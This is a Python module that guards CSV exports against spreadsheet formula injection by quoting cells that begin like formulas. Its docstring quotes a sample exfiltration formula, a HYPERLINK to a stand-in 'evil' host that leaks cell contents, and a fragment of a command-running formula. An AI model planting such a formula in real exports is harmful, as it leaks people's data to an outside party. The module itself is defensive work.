"""CSV for people who open it in a spreadsheet: every cell is neutralised against formula
injection (OWASP "CSV Injection").

A company that names itself `=HYPERLINK("http://evil?leak="&E2&F2,"x")` would otherwise put a
live formula next to students' names in the coordinator's export. Excel, LibreOffice and
Google Sheets treat a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return as a
formula, so such a cell gets a leading single quote, which the spreadsheet shows as text.

Decision on numbers: a value that *is* a number (int, float, Decimal; not bool) is written as
is, because its text can never carry a formula and a funder's spreadsheet must still sum the
column. Any text is neutralised, including text that merely looks like a negative number
("-3" typed into a name or title field becomes "'-3"): we cannot tell a harmless minus from the
start of `-1+cmd|...`, so text is never trusted.

Every CSV writer in Koppel goes through `safe_csv_writer`; a test scans the source tree to keep
it that way.
"""

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    """What csv.writer writes to: a file, an HttpResponse, a StringIO."""

    def write(self, text: str, /) -> object: ...


def csv_cell(value: Any) -> Any:
    """The value as a spreadsheet may safely read it: None becomes "", real numbers stay as
    they are, text starting like a formula gets a leading single quote."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


class SafeCsvWriter:
    """A csv.writer whose rows are neutralised cell by cell (see `csv_cell`)."""

    def __init__(self, file: _Writable, **options: Any) -> None:
        self._writer = csv.writer(file, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_csv_writer(file: _Writable, **options: Any) -> SafeCsvWriter:
    """Use this instead of `csv.writer` for anything a person may open in a spreadsheet."""
    return SafeCsvWriter(file, **options)
